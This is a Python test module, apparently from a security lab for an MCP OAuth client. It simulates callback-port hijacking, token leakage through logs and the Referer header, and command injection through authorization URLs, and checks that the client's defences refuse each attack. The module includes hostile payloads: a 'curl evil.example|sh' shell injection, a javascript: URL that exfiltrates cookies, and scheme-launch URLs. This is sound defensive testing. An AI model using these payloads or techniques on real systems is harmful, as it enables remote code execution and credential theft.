"""Attacks on the person's own machine: rows 2, 12 and 14.

They are on what a program leaves behind, on the port where it waits for the browser, and on what it starts.
"""

from __future__ import annotations

import asyncio
import logging
import shlex
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from urllib.parse import urlsplit

import httpx

from ...client.callback import CallbackListener
from ...client.handler import OAuthHandler
from ...client.login import login
from ...client.loopback import listen
from ...oauth.errors import McpOAuthError, SecurityError
from ...oauth.settings import Settings
from ...trace.messages import CLIENT
from ..lab import Lab
from .cast import EVIL, code_of, query_of, randomness
from .outcome import Plot, Refused, attack
from .starting import opened


@attack(
    12,
    "Callback port taken by another",
    needs=Lab,
    check="the program listens itself, on 127.0.0.1, before the browser is opened: a taken port is an error",
    reference="RFC 8252 sections 7.3 and 8.3",
)
async def callback_hijack(lab: Lab, plot: Plot) -> None:
    """A program of another user on this machine listens where the answer is expected."""
    async with _squatter() as (port, seen):
        plot.step("The attacker's program listens on the port that the victim's client is known to use.")
        redirect_uri = f"http://127.0.0.1:{port}/callback"
        settings = lab.settings.model_copy(update={"oauth_redirect_uri": redirect_uri})
        oauth = _handler(lab, "callback hijack", settings=settings)
        browser = _Visits(lab)
        if plot.defence:
            await _with_a_free_port(lab, plot, seen)
            plot.step("Again, with the port written down in OAUTH_REDIRECT_URI.")
            await login(oauth, show=_nobody_reads, open_browser=browser.open, timeout=5)
        request = oauth.get_authorization_url()
        plot.step("The client cannot listen there. It takes that for a leftover of its own, and opens the browser.")
        browser.open(request.url)
        await browser.done()
    plot.step("The victim agrees, and the browser brings the answer to the attacker.")
    plot.got("code", query_of(seen[-1])["code"])
    plot.got("state", query_of(seen[-1])["state"])


async def _with_a_free_port(lab: Lab, plot: Plot, seen: list[str]) -> None:
    """Sign in at the port that is free, while the attacker knocks at it before and after."""
    oauth, browser = _handler(lab, "callback, free port"), _Visits(lab)
    browser.before = ("code=forged&state=guessed",)
    browser.after = ("code=forged&state=guessed",)
    await login(oauth, show=_nobody_reads, open_browser=browser.open, timeout=5)
    await browser.done()
    assert not seen
    statuses = ", ".join(map(str, browser.statuses))
    plot.step(
        f"The real client takes a free port instead. A forged callback, the genuine one, a second one: {statuses}."
    )


class _Visits:
    """The victim's browser: goes through GitHub's pages, then really visits where they lead.

    Attributes:
        before, after: queries with which somebody else visits the same address.
        statuses: what was answered, or "closed" where no program listens any more.
    """

    def __init__(self, lab: Lab):
        self._lab = lab
        self.before: tuple[str, ...] = ()
        self.after: tuple[str, ...] = ()
        self.statuses: list[int | str] = []
        self._visit: asyncio.Task[None] | None = None

    def open(self, url: str) -> bool:
        """Open an address, as `webbrowser.open` does."""
        self._visit = asyncio.ensure_future(self._go(url))
        return True

    async def done(self) -> None:
        """Wait until the last visit is over."""
        if self._visit is not None:
            await self._visit

    async def _go(self, url: str) -> None:
        callback = await self._lab.browser.authorize(url)
        place = callback.partition("?")[0]
        async with httpx.AsyncClient() as browser:
            for address in (*(f"{place}?{q}" for q in self.before), callback, *(f"{place}?{q}" for q in self.after)):
                try:
                    self.statuses.append((await browser.get(address)).status_code)
                except httpx.TransportError:
                    self.statuses.append("closed")


@asynccontextmanager
async def _squatter() -> AsyncIterator[tuple[int, list[str]]]:
    """Listen on a port; yield it, and the addresses that browsers opened there."""
    seen: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        seen.append(line.split()[1].decode("ascii"))
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nSigned in")
        await writer.drain()
        writer.close()

    socket = listen(0)
    server = await asyncio.start_server(serve, sock=socket)
    try:
        yield socket.getsockname()[1], seen
    finally:
        server.close()
        await server.wait_closed()


def _handler(lab: Lab, whose: str, *, settings: Settings | None = None) -> OAuthHandler:
    client = lab.http_client(CLIENT)
    return OAuthHandler(
        settings=settings or lab.settings, client=client, clock=lab.clock, token_bytes=randomness(whose)
    )


def _nobody_reads(text: str) -> None:
    """Show nothing: in a lab no person has to open the address."""


# -- 2 -------------------------------------------------------------------------------------------------------------


@attack(
    2,
    "Leak through log and Referer",
    needs=Lab,
    check="secrets mask themselves wherever they are written, and the callback page sends no Referer",
    reference="RFC 9700 section 4.2.4; RFC 6750 section 5.3",
)
async def leak(lab: Lab, plot: Plot) -> None:
    """What is written by the way: the log at DEBUG, a crash report, and the address that a page tells others."""
    client = lab.http_client(CLIENT)
    oauth = OAuthHandler(settings=lab.settings, client=client, clock=lab.clock, token_bytes=randomness("leak"))
    lines: list[str] = []
    with _logged(lines):
        request = oauth.get_authorization_url()
    callback = await lab.browser.authorize(request.url)
    referer = await (_page_of_listener(callback) if plot.defence else _page_with_counter(callback))
    with _logged(lines):
        token = await oauth.complete_authorization(callback)
        if not plot.defence:
            logging.debug("Callback %s brought %s", callback, token.to_dict())
    plot.step("The victim signs in, with a program that logs at DEBUG.")
    crash = "\n".join([repr(oauth), repr(token), repr(request), str(await _an_error(oauth, callback))])
    plot.step("The program crashes later, and sends its log and its variables to where such reports are collected.")
    plot.step("Its page after the sign-in loads a picture from a site that counts visitors.")
    secrets = {
        "access token": token.access_token,
        "refresh token": token.refresh_token or "",
        "code": code_of(callback),
        "code verifier": request.code_verifier,
    }
    found = {name: secret for name, secret in secrets.items() if secret in "\n".join(lines) + crash}
    if not found and query_of(referer) == {}:
        raise Refused("None of the victim's four secrets is in the log, in a repr, in an error or in the Referer.")
    for name, secret in found.items():
        plot.got(f"{name}, from the log", secret)
    plot.got("code, from the Referer", query_of(referer)["code"])


class _Collect(logging.Handler):
    def __init__(self, lines: list[str]):
        super().__init__()
        self._lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self._lines.append(self.format(record))


@contextmanager
def _logged(lines: list[str]) -> Iterator[None]:
    """Collect all that anybody logs."""
    root = logging.getLogger()
    level, others = root.level, root.handlers[:]
    root.handlers[:] = [_Collect(lines)]
    root.setLevel(logging.DEBUG)
    try:
        yield
    finally:
        root.handlers[:] = others
        root.setLevel(level)


async def _page_of_listener(callback: str) -> str:
    """Visit the real listener's page, and return what a picture on it would get as Referer."""
    async with CallbackListener("http://127.0.0.1/callback", str) as listener:
        address = f"{listener.redirect_uri}?{urlsplit(callback).query}"
        async with httpx.AsyncClient() as browser:
            page = await browser.get(address)
    return _referer(page, address)


async def _page_with_counter(callback: str) -> str:
    """Visit a page that asks for what browsers did by themselves until 2020, as some snippets still do."""
    page = httpx.Response(200, headers={"Referrer-Policy": "no-referrer-when-downgrade"})
    return _referer(page, callback)


def _referer(page: httpx.Response, address: str) -> str:
    """Return what a browser sends along when a page loads something from another site (Referrer Policy, section 3)."""
    policy = page.headers.get("referrer-policy", "strict-origin-when-cross-origin")
    if policy in ("unsafe-url", "no-referrer-when-downgrade"):
        return address
    parts = urlsplit(address)
    return "" if policy in ("no-referrer", "same-origin") else f"{parts.scheme}://{parts.netloc}/"


async def _an_error(oauth: OAuthHandler, callback: str) -> McpOAuthError | None:
    try:
        await oauth.complete_authorization(callback)
    except McpOAuthError as error:
        return error
    return None


# -- 14 ------------------------------------------------------------------------------------------------------------

# Without a space, which no URL has.
_COMMAND = "$(curl${IFS}evil.example|sh)"
_URLS = (
    "javascript:fetch('//evil.example/?'+document.cookie)",
    "file:///C:/Windows/System32/calc.exe",
    "vscode://evil.extension/run",
    f"{EVIL}/authorize?x={_COMMAND}",
)


@attack(
    14,
    "Command in the authorization URL",
    needs=Lab,
    check="only http and https are opened, and as one argument: there is no shell",
    reference="CVE-2025-6514; CVE-2025-58747",
)
async def command_in_url(lab: Lab, plot: Plot) -> None:
    """An MCP server names an authorization endpoint that is no place to sign in, but something to run."""
    # Each asks for the answer with a state, as a request does.
    urls = [f"{url}{'&' if '?' in url else '?'}state=s" for url in _URLS]
    tried = await opened(urls, shell=not plot.defence)
    for url, came in zip(_URLS, tried, strict=True):
        for command in came.commands[:1]:
            plot.step(f"{url} becomes the command {shlex.join(command)}")
        if not came.commands:
            plot.step(f"{url} is not opened.")
    *programs, page = tried
    assert page.commands, "the address of a page is opened"
    started = [urlsplit(one.url).scheme for one in programs if one.commands]
    if started:
        plot.learned("started by their scheme", ", ".join(started))
    if page.by_shell:
        plot.learned("a shell that runs", _COMMAND)
    if not plot.obtained:
        raise SecurityError(programs[0].refused)
